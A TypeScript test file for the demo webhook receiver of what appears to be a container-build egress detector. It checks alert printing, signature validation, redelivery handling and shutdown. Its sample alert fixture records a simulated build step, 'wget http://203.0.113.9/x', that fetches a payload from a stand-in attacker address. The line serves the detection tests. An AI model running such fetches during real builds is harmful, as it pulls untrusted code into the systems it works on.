/**
 * deploy/webhook-echo.mjs, the demo receiver of `docker compose --profile demo up`, started
 * for real and fed alerts. Each test reads only the output produced after it began, and the
 * SIGTERM test stops a receiver of its own, so the tests pass in any order.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { createHmac } from 'node:crypto';
import { once } from 'node:events';
import { join } from 'node:path';
import { TECHNIQUE, type Alert } from '../src/model/alert.js';
import { ROOT } from './support/compose.js';

const SECRET = 'demo-secret';

function sampleAlert(): Alert {
  return {
    id: '7d3f0c1e-0000-4000-8000-000000000001',
    time: '2026-01-01T00:00:00.000Z',
    severity: 'critical',
    technique: TECHNIQUE,
    environment: 'default',
    hostname: 'node-a',
    summary: 'An image build on node-a reached 203.0.113.9:443, an address this environment never contacted.',
    build: {
      session_id: 'sess-1',
      started_at: '2026-01-01T00:00:00.000Z',
      trigger: {
        rule: 'T1612 Build API Request',
        proc_name: 'dockerd',
        cmdline: 'dockerd',
        user: 'root',
        container_id: 'host',
        remote_peer: '198.51.100.7:51234',
      },
      images: ['evil:latest'],
    },
    destination: { ip: '203.0.113.9', port: 443, l4proto: 'tcp', domain: null, first_seen_at: '2026-01-01T00:00:01.000Z' },
    connection: {
      time: '2026-01-01T00:00:01.000Z',
      rule: 'T1612 Build Step Egress',
      proc_name: 'wget',
      cmdline: 'wget http://203.0.113.9/x',
      pid: 42,
      container_id: 'abc123def456',
      attribution: 'lineage',
    },
    evidence: [],
  };
}

/** One running receiver and everything it has printed so far. */
interface Receiver {
  child: ChildProcessWithoutNullStreams;
  base: string;
  /** stdout and stderr, interleaved. */
  output(): string;
  /** Waits for `pattern` in the output after offset `from`. */
  waitForOutput(pattern: RegExp, from?: number, ms?: number): Promise<RegExpExecArray>;
  post(body: string, headers?: Record<string, string>): Promise<Response>;
  /** SIGKILL unless it already exited. */
  kill(): Promise<void>;
}

async function startReceiver(): Promise<Receiver> {
  const child = spawn(process.execPath, [join(ROOT, 'deploy', 'webhook-echo.mjs')], {
    env: { PATH: process.env['PATH'] ?? '', PORT: '0', HOST: '127.0.0.1', WEBHOOK_SECRET: SECRET },
  });
  let output = '';
  child.stdout.on('data', (d: Buffer) => (output += d.toString()));
  child.stderr.on('data', (d: Buffer) => (output += d.toString()));
  const rx: Receiver = {
    child,
    base: '',
    output: () => output,
    async waitForOutput(pattern, from = 0, ms = 5000) {
      const deadline = Date.now() + ms;
      for (;;) {
        const m = pattern.exec(output.slice(from));
        if (m) return m;
        if (Date.now() > deadline) throw new Error(`no ${pattern} in receiver output: ${output.slice(from)}`);
        await new Promise((r) => setTimeout(r, 20));
      }
    },
    post(body, headers = {}) {
      return fetch(`${rx.base}/`, { method: 'POST', body, headers: { 'content-type': 'application/json', ...headers } });
    },
    async kill() {
      if (child.exitCode !== null || child.signalCode !== null) return;
      child.kill('SIGKILL');
      await once(child, 'exit');
    },
  };
  try {
    const m = await rx.waitForOutput(/listening on http:\/\/127\.0\.0\.1:(\d+)\//);
    rx.base = `http://127.0.0.1:${m[1]}`;
  } catch (err) {
    await rx.kill();
    throw err;
  }
  return rx;
}

function sign(body: string): string {
  return `sha256=${createHmac('sha256', SECRET).update(body).digest('hex')}`;
}

describe('deploy/webhook-echo.mjs (the demo receiver)', function () {
  this.timeout(20_000);
  let rx: Receiver;

  before(async () => {
    rx = await startReceiver();
  });

  after(async () => {
    await rx.kill();
  });

  it('prints a signed alert as a summary plus its JSON, and acknowledges it', async () => {
    const from = rx.output().length;
    const body = JSON.stringify(sampleAlert());
    const res = await rx.post(body, { 'x-t1612d-delivery': 'd-1', 'x-t1612d-signature': sign(body) });
    assert.equal(res.status, 204);
    await rx.waitForOutput(/"first_seen_at": "2026-01-01T00:00:01.000Z"/, from);
    const output = rx.output().slice(from);
    assert.match(output, /== CRITICAL T1612 on node-a \(default\)/);
    assert.match(output, /reached {3}203\.0\.113\.9:443 via wget \[lineage\]/);
    assert.match(output, /delivery {2}d-1, signature valid/);
  });

  it('shows a redelivery once and flags a wrong signature', async () => {
    const from = rx.output().length;
    const body = JSON.stringify(sampleAlert());
    assert.equal((await rx.post(body, { 'x-t1612d-delivery': 'd-redelivered', 'x-t1612d-signature': sign(body) })).status, 204);
    await rx.waitForOutput(/delivery {2}d-redelivered, signature valid/, from);
    assert.equal((await rx.post(body, { 'x-t1612d-delivery': 'd-redelivered' })).status, 204);
    await rx.waitForOutput(/duplicate delivery d-redelivered/, from);
    const tampered = JSON.stringify({ ...sampleAlert(), severity: 'medium' });
    assert.equal((await rx.post(tampered, { 'x-t1612d-delivery': 'd-2', 'x-t1612d-signature': sign(body) })).status, 204);
    await rx.waitForOutput(/delivery {2}d-2, signature INVALID/, from);
  });

  it('rejects malformed bodies with 400 and keeps serving', async () => {
    const from = rx.output().length;
    const res = await rx.post('{"not json');
    assert.equal(res.status, 400);
    await res.text();
    const odd = await rx.post('[1, "x", null]', { 'x-t1612d-delivery': 'd-3' });
    assert.equal(odd.status, 204, 'valid JSON of another shape is shown, not fatal');
    await rx.waitForOutput(/delivery {2}d-3, signature INVALID/, from);
    const health = await fetch(`${rx.base}/healthz`);
    assert.equal(health.status, 200);
    assert.equal(await health.text(), 'ok\n');
    assert.equal(rx.child.exitCode, null);
  });

  it('stops cleanly on SIGTERM', async () => {
    const own = await startReceiver();
    try {
      const exited = once(own.child, 'exit') as Promise<[number | null]>;
      own.child.kill('SIGTERM');
      const [code] = await exited;
      assert.equal(code, 0);
    } finally {
      await own.kill();
    }
  });
});
